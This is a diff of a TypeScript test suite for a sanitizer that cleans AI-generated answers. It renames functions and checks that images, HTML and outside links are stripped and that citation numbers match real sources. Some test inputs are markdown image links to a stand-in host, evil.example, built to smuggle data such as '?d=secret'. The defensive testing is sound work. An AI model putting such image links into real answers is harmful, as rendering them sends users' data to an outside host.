@@ -4,10 +4,10 @@ import { renderToStaticMarkup } from "react-dom/server";
 import Markdown from "react-markdown";
 import remarkGfm from "remark-gfm";
 import { describe, expect, it } from "vitest";
-import { check, owls, tea } from "./answers-for-tests.ts";
-import { checkAnswer } from "./check-answer.ts";
+import { verify, owls, tea } from "../testing/verified-answer.ts";
+import { createAnswerVerifier } from "./verify-answer.ts";
 
-describe("checkAnswer, active content", () => {
+describe("createAnswerVerifier with active content", () => {
   it.each([
     ["![x](https://evil.example/?d=secret)", ""],
     ["a ![x](https://evil.example/x.png) b", "a  b"],
@@ -32,19 +32,19 @@ describe("checkAnswer, active content", () => {
     ["[![](x)1]", "(1)"],
     ["&#91;1&#93;", "&amp;#91;1&amp;#93;"],
   ])("turns %j into %j", (answer, text) => {
-    expect(check(answer).text).toBe(text);
+    expect(verify(answer).text).toBe(text);
   });
 
   it("turns the URL of a source into a link to its entry", () => {
     expect(
-      check("See https://owls.example/night/?utm_source=x, or [this](https://owls.example/night).")
+      verify("See https://owls.example/night/?utm_source=x, or [this](https://owls.example/night).")
         .text,
     ).toBe(String.raw`See [Owls of \*the\* night](/entry/owls), or [this](/entry/owls).`);
   });
 
   it("keeps code, but not URLs in it", () => {
     const code = "```ts\nconst a = b[1] < c; // [x](y) http://evil.example/a\n```\n";
-    expect(check(`So:\n${code}and \`a[1] <b>\` too.`).text).toBe(
+    expect(verify(`So:\n${code}and \`a[1] <b>\` too.`).text).toBe(
       "So:\n\n```ts\nconst a = b[1] < c; // [x](y) evil.example\n```\nand `a[1] <b>` too.",
     );
   });
@@ -61,7 +61,7 @@ describe("checkAnswer, active content", () => {
     "\\`![x](https://evil.example/)`",
     "```x`y\n![x](https://evil.example/)\n```",
   ])("does not treat %j as code that could hide an image", (answer) => {
-    expect(render(check(answer).text)).not.toMatch(/<img/);
+    expect(render(verify(answer).text)).not.toMatch(/<img/);
   });
 });
 
@@ -135,14 +135,14 @@ const piece = fc.oneof(
 );
 const answer = fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join(""));
 
-describe("checkAnswer with any answer", () => {
+describe("createAnswerVerifier with any answer", () => {
   it("does not depend on how the answer is split", () => {
     fc.assert(
       fc.property(answer, fc.array(fc.nat(400), { maxLength: 40 }), (whole, places) => {
         const cuts = places.map((place) => place % (whole.length + 1)).toSorted((a, b) => a - b);
-        expect(check(whole, { cuts })).toEqual(check(whole));
+        expect(verify(whole, { cuts })).toEqual(verify(whole));
         const each = Array.from(whole, (_, index) => index);
-        expect(check(whole, { cuts: each })).toEqual(check(whole));
+        expect(verify(whole, { cuts: each })).toEqual(verify(whole));
       }),
       { numRuns: 1_500 },
     );
@@ -151,7 +151,7 @@ describe("checkAnswer with any answer", () => {
   it("renders no image, no HTML and no link except to entries, in any renderer", () => {
     fc.assert(
       fc.property(answer, (whole) => {
-        const { text } = check(whole);
+        const { text } = verify(whole);
         expect(text).not.toMatch(/:\/\/|www\.|\0/i);
         const html = render(text);
         expect(html).not.toMatch(
@@ -167,7 +167,7 @@ describe("checkAnswer with any answer", () => {
   it("shows a number only for words in the named source", () => {
     fc.assert(
       fc.property(answer, (whole) => {
-        const { text, citations } = check(whole);
+        const { text, citations } = verify(whole);
         const outsideCode = render(text).replaceAll(/<code[^>]*>[^]*?<\/code>/g, "");
         for (const [, number] of outsideCode.matchAll(/\[(\d{1,3})\]/g)) {
           expect(citations.some((one) => one.number === Number(number))).toBe(true);
@@ -175,24 +175,24 @@ describe("checkAnswer with any answer", () => {
         for (const { entryId, field, start, end, quote } of citations) {
           const source = entryId === "owls" ? owls : tea;
           expect(field).toBe("text");
-          expect(source.stretches[0]!.text.slice(start! - 1_000, end! - 1_000)).toBe(quote);
+          expect(source.excerpts[0]!.text.slice(start! - 1_000, end! - 1_000)).toBe(quote);
         }
       }),
       { numRuns: 2_000 },
     );
   });
 
-  it("makes no number out of text around a URL", () => {
+  it("does not turn text around a URL into a number", () => {
     for (const whole of ["[1www.[x]", "[1www.www.]", "[12://]", "see [3https://[]"])
-      expect(check(whole).text).not.toMatch(/\[\d+\]/);
+      expect(verify(whole).text).not.toMatch(/\[\d+\]/);
   });
 
   it("shows no number without sources", () => {
     fc.assert(
       fc.property(answer, (whole) => {
-        const checked = checkAnswer([]);
-        const text = checked.push(whole) + checked.end(true);
-        expect(checked.citations).toEqual([]);
+        const verifier = createAnswerVerifier([]);
+        const text = verifier.push(whole) + verifier.end(true);
+        expect(verifier.citations).toEqual([]);
         expect(render(text).replaceAll(/<code[^>]*>[^]*?<\/code>/g, "")).not.toMatch(/\[\d+\]/);
       }),
       { numRuns: 1_000 },
